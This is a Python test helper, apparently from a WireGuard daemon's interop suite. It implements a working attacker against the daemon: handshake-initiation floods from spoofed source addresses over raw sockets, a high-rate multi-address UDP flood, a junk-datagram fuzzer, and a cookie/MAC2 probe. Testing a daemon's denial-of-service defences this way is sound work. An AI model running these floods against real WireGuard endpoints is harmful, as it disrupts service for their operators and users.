"""An attacker for the interop tests, run inside the attacker's namespace.

It knows WireGuard only from the whitepaper (hashlib, hmac and `cryptography`, nothing from
wiresnake), so what it sends is an independent check of the daemon under attack:

- `flood-init V_PUB DST PORT SPOOF_NET SECONDS RATE`: handshake initiations with a valid
  MAC1, a zero or random MAC2 and random everything else, from spoofed sources inside
  SPOOF_NET, through a raw socket with IP_HDRINCL; RATE 0 means as fast as we can.
- `flood-lan V_PUB DST PORT FIRST COUNT SECONDS RATE`: MAC1-valid initiations (zero or
  random MAC2) from COUNT real addresses starting at FIRST (already on our interface), one
  UDP socket bound to each, 64 to a sendmsg with UDP_SEGMENT, RATE a second (0: as fast as
  we can), for SECONDS (0: until stdin closes); the victim's replies pile up unread in
  those sockets.
- `flood-junk DST PORT SECONDS [V_PUB]`: random and truncated datagrams of every size
  0..1500, random bytes and valid-type prefixes, as fast as we can, from the real address.
- `capture IFACE PORT SPOOF_NET V_ADDR...`: count what arrives on IFACE from the victim
  (raw AF_PACKET), by kind and destination, until stdin closes; prints `ready`, then the
  counts as JSON.
- `probe PRIV_B64 V_PUB DST PORT MODE`: a genuine peer with a known private key. MODE
  `plain` sends one initiation and reports the replies; `cookie` expects cookie replies to
  initiations with a zero and a bogus MAC2, decrypts one, and retries with a MAC2 made from
  it until a handshake response comes.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import ipaddress
import json
import os
import random
import select
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable

from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

CONSTRUCTION = b"Noise_IKpsk2_25519_ChaChaPoly_BLAKE2s"
IDENTIFIER = b"WireGuard v1 zx2c4 Jason@zx2c4.com"
INITIATION_SIZE = 148
MAC1_OFFSET = 116  # of an initiation; MAC2 follows MAC1
MAX_SIZE = 1500


# ---------------------------------------------------------------- primitives (whitepaper 5.4)


def blake2s(*parts: bytes) -> bytes:
    h = hashlib.blake2s()
    for p in parts:
        h.update(p)
    return h.digest()


def mac(key: bytes, data: bytes) -> bytes:
    return hashlib.blake2s(data, key=key, digest_size=16).digest()


def _hmac(key: bytes, data: bytes) -> bytes:
    return hmac.new(key, data, hashlib.blake2s).digest()


def kdf2(key: bytes, data: bytes) -> tuple[bytes, bytes]:
    t0 = _hmac(key, data)
    t1 = _hmac(t0, b"\x01")
    return t1, _hmac(t0, t1 + b"\x02")


def aead(key: bytes, plaintext: bytes, ad: bytes) -> bytes:
    return ChaCha20Poly1305(key).encrypt(bytes(12), plaintext, ad)


def _rotl(v: int, n: int) -> int:
    return ((v << n) | (v >> (32 - n))) & 0xFFFFFFFF


_DOUBLE_ROUND = (
    (0, 4, 8, 12),
    (1, 5, 9, 13),
    (2, 6, 10, 14),
    (3, 7, 11, 15),
    (0, 5, 10, 15),
    (1, 6, 11, 12),
    (2, 7, 8, 13),
    (3, 4, 9, 14),
)


def hchacha20(key: bytes, nonce16: bytes) -> bytes:
    s = [0x61707865, 0x3320646E, 0x79622D32, 0x6B206574]
    s += list(struct.unpack("<8I", key)) + list(struct.unpack("<4I", nonce16))

    def qr(a: int, b: int, c: int, d: int) -> None:
        s[a] = (s[a] + s[b]) & 0xFFFFFFFF
        s[d] = _rotl(s[d] ^ s[a], 16)
        s[c] = (s[c] + s[d]) & 0xFFFFFFFF
        s[b] = _rotl(s[b] ^ s[c], 12)
        s[a] = (s[a] + s[b]) & 0xFFFFFFFF
        s[d] = _rotl(s[d] ^ s[a], 8)
        s[c] = (s[c] + s[d]) & 0xFFFFFFFF
        s[b] = _rotl(s[b] ^ s[c], 7)

    for _ in range(10):
        for a, b, c, d in _DOUBLE_ROUND:
            qr(a, b, c, d)
    return struct.pack("<8I", *s[0:4], *s[12:16])


def xaead_open(key: bytes, nonce24: bytes, ciphertext: bytes, ad: bytes) -> bytes:
    subkey = hchacha20(key, nonce24[:16])
    return ChaCha20Poly1305(subkey).decrypt(bytes(4) + nonce24[16:], ciphertext, ad)


def public_of(private: bytes) -> bytes:
    return (
        X25519PrivateKey.from_private_bytes(private)
        .public_key()
        .public_bytes(Encoding.Raw, PublicFormat.Raw)
    )


def dh(private: bytes, public: bytes) -> bytes:
    return X25519PrivateKey.from_private_bytes(private).exchange(
        X25519PublicKey.from_public_bytes(public)
    )


def tai64n() -> bytes:
    # not masked: two initiations within the same 16 ms must still be strictly increasing
    ns = time.time_ns()
    return struct.pack(">QI", ns // 10**9 + (1 << 62) + 10, ns % 10**9)


def mac1_key(responder_public: bytes) -> bytes:
    return blake2s(b"mac1----", responder_public)


def initiation(
    static_private: bytes, responder_public: bytes, sender: int, cookie: bytes | None = None
) -> bytes:
    """A genuine first handshake message (Noise IKpsk2, whitepaper 5.4.2)."""
    c = blake2s(CONSTRUCTION)
    h = blake2s(blake2s(c, IDENTIFIER), responder_public)
    e_priv = os.urandom(32)
    e_pub = public_of(e_priv)
    c = _hmac(_hmac(c, e_pub), b"\x01")
    h = blake2s(h, e_pub)
    c, k = kdf2(c, dh(e_priv, responder_public))
    static = aead(k, public_of(static_private), h)
    h = blake2s(h, static)
    c, k = kdf2(c, dh(static_private, responder_public))
    stamp = aead(k, tai64n(), h)
    body = struct.pack("<II", 1, sender) + e_pub + static + stamp
    body += mac(mac1_key(responder_public), body)
    return body + (mac(cookie, body) if cookie is not None else bytes(16))


# ---------------------------------------------------------------- floods


def _checksum(header: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _ipv4_udp(src: bytes, dst: bytes, sport: int, dport: int, payload: bytes) -> bytes:
    total = 28 + len(payload)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 0, 0x4000, 64, 17, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
    # UDP checksum 0: none, allowed over IPv4
    return ip + struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


def _paced_send(
    packets: list[bytes], send: Callable[[bytes], object], seconds: float, rate: float
) -> tuple[int, float]:
    """Cycle through `packets` for `seconds`, at `rate` per second (0: flat out); a full
    send buffer just loses the packet, as on a saturated link."""
    n = len(packets)
    sent = 0
    start = time.monotonic()
    end = start + seconds
    burst = 64
    i = 0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        if rate:
            due = int((now - start) * rate)
            if sent >= due:
                time.sleep(min(0.002, end - now))
                continue
        for _ in range(burst):
            try:
                send(packets[i])
                sent += 1
            except OSError:
                pass
            i += 1
            if i == n:
                i = 0
    return sent, time.monotonic() - start


def flood_init(
    v_pub: bytes, dst: str, port: int, spoof_net: str, seconds: float, rate: float
) -> dict[str, object]:
    net = ipaddress.ip_network(spoof_net)
    rnd = random.Random()
    key = mac1_key(v_pub)
    dst_b = ipaddress.ip_address(dst).packed
    packets = []
    for _ in range(8192):
        src = ipaddress.ip_address(
            int(net.network_address) + rnd.randrange(1, net.num_addresses - 1)
        )
        body = struct.pack("<I", 1) + os.urandom(MAC1_OFFSET - 4)
        # without MAC2, or with a MAC2 that no cookie made
        msg = body + mac(key, body) + (os.urandom(16) if rnd.random() < 0.5 else bytes(16))
        packets.append(_ipv4_udp(src.packed, dst_b, rnd.randrange(1024, 65536), port, msg))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    target = (dst, 0)
    sent, elapsed = _paced_send(packets, lambda p: s.sendto(p, target), seconds, rate)
    s.close()
    return {"sent": sent, "seconds": round(elapsed, 3), "sources": len(packets)}


_SOL_UDP = 17
_UDP_SEGMENT = 103
_SEGMENTS = 64


def flood_lan(
    v_pub: bytes, dst: str, port: int, first: str, count: int, seconds: float, rate: float
) -> dict[str, object]:
    """Round-robin over the sources, one GSO super-packet of 64 initiations each; a send
    the socket refuses (its buffer full) is counted as lost, as on a saturated link."""
    key = mac1_key(v_pub)
    rnd = random.Random()

    def burst() -> bytes:
        msgs = []
        for _ in range(_SEGMENTS):
            body = struct.pack("<I", 1) + os.urandom(MAC1_OFFSET - 4)
            mac2 = os.urandom(16) if rnd.random() < 0.5 else bytes(16)
            msgs.append(body + mac(key, body) + mac2)
        return b"".join(msgs)

    start_ip = ipaddress.ip_address(first)
    socks = []
    for i in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.bind((str(start_ip + i), 0))
        s.connect((dst, port))
        s.setsockopt(_SOL_UDP, _UDP_SEGMENT, INITIATION_SIZE)
        s.setblocking(False)
        socks.append(s)
    # a few different bursts per source, so that no two sends in a row are equal
    sends = [(s.send, burst()) for _ in range(4) for s in socks]
    rnd.shuffle(sends)
    stop = threading.Event()
    if not seconds:
        seconds = float("inf")
        threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
    sent = refused = 0
    start = time.monotonic()
    end = start + seconds
    i, n = 0, len(sends)
    # paced per millisecond: bursts due by now go out back to back, then a short sleep
    per_second = rate / _SEGMENTS
    while not stop.is_set():
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - start) * per_second) + 1 if rate else sent + refused + n
        if sent + refused >= due:
            time.sleep(0.001)
            continue
        while sent + refused < due:
            send, data = sends[i]
            i = (i + 1) % n
            try:
                send(data)
                sent += 1
            except OSError:
                refused += 1
    elapsed = time.monotonic() - start
    for s in socks:
        s.close()
    return {
        "sent": sent * _SEGMENTS,
        "refused": refused * _SEGMENTS,
        "seconds": round(elapsed, 3),
        "rate": round(sent * _SEGMENTS / elapsed),
        "sources": count,
    }


def junk_pool(v_pub: bytes | None) -> list[bytes]:
    """Every size 0..MAX_SIZE, random bytes, each message type as a prefix (with the reserved
    bytes zero and not), and truncations/extensions of a MAC1-valid initiation."""
    rnd = os.urandom
    pool = []
    valid = None
    if v_pub is not None:
        body = struct.pack("<I", 1) + rnd(MAC1_OFFSET - 4)
        valid = body + mac(mac1_key(v_pub), body) + bytes(16)
    for n in range(MAX_SIZE + 1):
        pool.append(rnd(n))
        for t in (1, 2, 3, 4):
            pool.append((bytes([t, 0, 0, 0]) + rnd(n))[:n])
            pool.append((bytes([t, 1, 0, 0]) + rnd(n))[:n])
        if valid is not None and n != INITIATION_SIZE:
            pool.append((valid + rnd(max(0, n - INITIATION_SIZE)))[:n])
    random.shuffle(pool)
    return pool


def flood_junk(dst: str, port: int, seconds: float, v_pub: bytes | None) -> dict[str, object]:
    family = socket.AF_INET6 if ":" in dst else socket.AF_INET
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    s.connect((dst, port))
    pool = junk_pool(v_pub)
    sent, elapsed = _paced_send(pool, s.send, seconds, 0)
    s.close()
    return {"sent": sent, "seconds": round(elapsed, 3), "kinds": len(pool)}


# ---------------------------------------------------------------- capture

_SOL_PACKET = 263
_PACKET_IGNORE_OUTGOING = 23
_PACKET_STATISTICS = 6
_ETH_P_ALL = 0x0003
_SO_RCVBUFFORCE = 33


def capture(iface: str, port: int, spoof_net: str, victims: list[str]) -> dict[str, object]:
    """Count packets arriving on `iface` from any of `victims` until stdin closes, by kind
    and destination; destinations inside `spoof_net` are counted together as `spoofed`."""
    victim = {ipaddress.ip_address(v).packed for v in victims}
    spoofed = ipaddress.ip_network(spoof_net)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_ETH_P_ALL))
    s.setsockopt(_SOL_PACKET, _PACKET_IGNORE_OUTGOING, 1)
    s.setsockopt(socket.SOL_SOCKET, _SO_RCVBUFFORCE, 32 << 20)
    s.bind((iface, 0))
    counts: dict[str, int] = {}
    destinations: set[bytes] = set()
    stop = threading.Event()

    def watch_stdin() -> None:
        sys.stdin.read()
        stop.set()

    threading.Thread(target=watch_stdin, daemon=True).start()
    print("ready", flush=True)
    s.setblocking(False)
    while not stop.is_set():
        ready, _, _ = select.select([s], [], [], 0.1)
        if not ready:
            continue
        for _ in range(256):
            try:
                pkt, addr = s.recvfrom(65536)
            except BlockingIOError:
                break
            proto = addr[1]
            if proto == 0x0800 and len(pkt) >= 20:
                src, dst = pkt[12:16], pkt[16:20]
                l4, hl = pkt[9], (pkt[0] & 0xF) * 4
            elif proto == 0x86DD and len(pkt) >= 40:
                src, dst = pkt[8:24], pkt[24:40]
                l4, hl = pkt[6], 40
            else:
                continue
            if src not in victim:
                continue
            to_addr = ipaddress.ip_address(dst)
            to = "spoofed" if to_addr in spoofed else str(to_addr)
            if l4 == 17 and len(pkt) >= hl + 8:
                sport = struct.unpack_from("!H", pkt, hl)[0]
                payload = pkt[hl + 8 :]
                if sport != port:
                    key = f"udp-from-port-{sport} to {to}"
                else:
                    key = f"type{payload[0] if payload else -1}/{len(payload)} to {to}"
                    destinations.add(dst)
            elif l4 == 58 and len(pkt) > hl and 133 <= pkt[hl] <= 137:
                continue  # IPv6 neighbour discovery
            elif l4 in (1, 58) and len(pkt) >= hl + 2:
                key = f"icmp{'v6' if l4 == 58 else ''}-{pkt[hl]}/{pkt[hl + 1]} to {to}"
            else:
                key = f"ip-proto-{l4} to {to}"
            counts[key] = counts.get(key, 0) + 1
    _, drops = struct.unpack("II", s.getsockopt(_SOL_PACKET, _PACKET_STATISTICS, 8))
    s.close()
    return {"counts": counts, "destinations": len(destinations), "capture_drops": drops}


# ---------------------------------------------------------------- a genuine peer


def probe(priv: bytes, v_pub: bytes, dst: str, port: int, mode: str) -> dict[str, object]:
    """Genuine initiations from one UDP socket; replies are described as `typeN/SIZE`, with
    `/not-ours` when they answer an earlier initiation than the one just sent."""
    family = socket.AF_INET6 if ":" in dst else socket.AF_INET
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.connect((dst, port))
    s.settimeout(0.05)
    cookie_key = blake2s(b"cookie--", v_pub)

    def exchange(cookie: bytes | None, wait: float) -> tuple[bytes, list[bytes]]:
        sender = int.from_bytes(os.urandom(4), "little") or 1
        msg = initiation(priv, v_pub, sender, cookie)
        s.send(msg)
        got: list[bytes] = []
        end = time.monotonic() + wait
        while time.monotonic() < end:
            try:
                data = s.recv(2048)
            except TimeoutError:
                continue
            got.append(data)
            if data[4:8] == msg[4:8] or data[8:12] == msg[4:8]:
                break  # the answer to this one (a cookie reply or a response)
        return msg, got

    def describe(data: bytes, msg: bytes) -> str:
        kind = data[0] if data else -1
        at = 4 if kind == 3 else 8  # the receiver index: ours is the initiation's sender
        ours = len(data) >= at + 4 and data[at : at + 4] == msg[4:8]
        return f"type{kind}/{len(data)}{'' if ours else '/not-ours'}"

    if mode == "plain":
        msg, got = exchange(None, 2.0)
        return {"replies_plain": [describe(d, msg) for d in got]}

    # without MAC2 (zeros), and with a MAC2 made from a cookie V never gave
    bad_mac2 = {"zero": None, "bogus": os.urandom(16)}
    cookies: dict[str, bytes] = {}
    replies_plain: list[str] = []
    for _ in range(15):
        for kind, fake in bad_mac2.items():
            if kind in cookies:
                continue
            msg, got = exchange(fake, 0.7)
            replies_plain.extend(describe(d, msg) for d in got)
            for d in got:
                if len(d) == 64 and d[0] == 3 and d[4:8] == msg[4:8]:
                    mac1 = msg[MAC1_OFFSET : MAC1_OFFSET + 16]
                    cookies[kind] = xaead_open(cookie_key, d[8:32], d[32:64], mac1)
        if len(cookies) == len(bad_mac2):
            break
    result: dict[str, object] = {"replies_plain": replies_plain, "cookie": sorted(cookies)}
    if not cookies:
        return result
    cookie = next(iter(cookies.values()))
    replies_mac2: list[str] = []
    sent_mac2 = 0
    for _ in range(15):
        msg, got = exchange(cookie, 0.7)
        sent_mac2 += 1
        replies_mac2.extend(describe(d, msg) for d in got)
        if any(d[:1] == b"\x02" for d in got):
            break
    result.update(replies_mac2=replies_mac2, sent_mac2=sent_mac2)
    return result


def main(argv: list[str]) -> None:
    cmd, args = argv[0], argv[1:]
    out: dict[str, object]
    if cmd == "flood-init":
        out = flood_init(
            base64.b64decode(args[0]),
            args[1],
            int(args[2]),
            args[3],
            float(args[4]),
            float(args[5]),
        )
    elif cmd == "flood-lan":
        out = flood_lan(
            base64.b64decode(args[0]),
            args[1],
            int(args[2]),
            args[3],
            int(args[4]),
            float(args[5]),
            float(args[6]),
        )
    elif cmd == "flood-junk":
        v_pub = base64.b64decode(args[3]) if len(args) > 3 else None
        out = flood_junk(args[0], int(args[1]), float(args[2]), v_pub)
    elif cmd == "capture":
        out = capture(args[0], int(args[1]), args[2], args[3:])
    elif cmd == "probe":
        out = probe(
            base64.b64decode(args[0]), base64.b64decode(args[1]), args[2], int(args[3]), args[4]
        )
    else:
        raise SystemExit(f"unknown command {cmd}")
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
